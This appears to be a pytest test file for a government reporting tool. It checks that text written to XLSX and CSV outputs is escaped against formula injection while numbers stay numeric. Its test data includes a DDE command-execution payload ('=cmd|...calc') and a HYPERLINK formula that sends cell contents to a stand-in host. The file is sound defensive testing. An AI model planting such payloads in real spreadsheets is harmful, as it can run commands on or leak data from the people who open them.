"""Formula injection (issue 10): text cells of tabel.xlsx and capaian_ikk.csv never become
formulas; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

DATA = Path(__file__).parents[1] / "data"
SATKER = "lapas-banyuasin"

BERBAHAYA = [
    "=1+2",
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("teks", BERBAHAYA)
def test_teks_aman_sel(teks: str) -> None:
    from lkjip_helpers.keluaran.aman import teks_aman_sel

    assert teks_aman_sel(teks) == "'" + teks


@pytest.mark.parametrize("teks", ["Lapas", "", "100%", "1.234", "Rp16.466.041.000", "a=b"])
def test_teks_biasa_tidak_diubah(teks: str) -> None:
    from lkjip_helpers.keluaran.aman import teks_aman_sel

    assert teks_aman_sel(teks) == teks


def test_xlsx_teks_tidak_menjadi_formula(tmp_path: Path) -> None:
    # Before: a program, IKK or cell text starting with "=" became a live formula.
    from decimal import Decimal

    from lkjip_helpers.keluaran.xlsx import tulis_xlsx
    from lkjip_helpers.laporan.model import Tabel, angka

    tabel = Tabel.buat(
        "uji",
        "=1+1 Uji",
        ["=A", "Nilai"],
        [[t, angka(Decimal("-5.5"))] for t in BERBAHAYA],
        catatan='=HYPERLINK("http://contoh.invalid")',
        sumber="@SUM(A1)",
    )
    tabel.nomor = "1.1"
    tujuan = tmp_path / "tabel.xlsx"
    tulis_xlsx([tabel], tujuan, "Judul")
    wb = load_workbook(tujuan)
    sel = [c for ws in wb.worksheets for baris in ws.iter_rows() for c in baris]
    sel = [c for c in sel if c.value is not None]
    assert not [c.coordinate for c in sel if c.data_type == "f"], "no formula cells"
    teks = {str(c.value).strip() for c in sel if c.data_type == "s"}
    assert {t.strip() for t in BERBAHAYA} <= teks
    angka_ = [c.value for c in sel if c.data_type == "n"]
    assert angka_ == [-5.5] * len(BERBAHAYA), "numbers stay numbers, negative ones too"


def test_isi_sel_teks_menandai_quote_prefix() -> None:
    from openpyxl import Workbook

    from lkjip_helpers.keluaran.aman import isi_sel_teks

    ws = Workbook().active
    c = isi_sel_teks(ws.cell(row=1, column=1), "=1+2")
    assert c.data_type == "s" and c.quotePrefix and c.value == "=1+2"
    assert not isi_sel_teks(ws.cell(row=2, column=1), "Lapas").quotePrefix


def test_csv_teks_diamankan_angka_tetap(tmp_path: Path) -> None:
    # Before: =HYPERLINK(…) in an indicator name survived as is into capaian_ikk.csv.
    from lkjip_helpers.keluaran.csv import baris_capaian_ikk, tulis_csv_ikk

    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    katalog = next((data / "katalog").glob("*.yaml"))
    isi = yaml.safe_load(katalog.read_text(encoding="utf-8"))
    jahat = '=HYPERLINK("http://contoh.invalid","x")'
    isi["indikator"][0]["nama"] = jahat
    katalog.write_text(yaml.safe_dump(isi, allow_unicode=True), encoding="utf-8")
    mesin, excel = tulis_csv_ikk(baris_capaian_ikk(SATKER, 2023, data), tmp_path)
    with mesin.open(encoding="utf-8", newline="") as f:
        baris = list(csv.DictReader(f))
    teks_csv = [v for b in baris for v in b.values()]
    assert "'" + jahat in teks_csv + [b["nama_sasaran"] for b in baris], "prefixed with '"
    assert jahat not in teks_csv
    assert not any(v.startswith(("=", "+", "@")) for v in teks_csv if v)
    # numbers stay numbers: a negative change of capaian is written as -17.85, not '-17.85
    angka = [b["perubahan_capaian_poin"] for b in baris if b.get("perubahan_capaian_poin")]
    assert angka and all(not v.startswith("'") for v in angka)
    assert any(v.startswith("-") for v in angka), angka
    assert jahat not in excel.read_text(encoding="utf-8-sig").replace("'" + jahat, "")
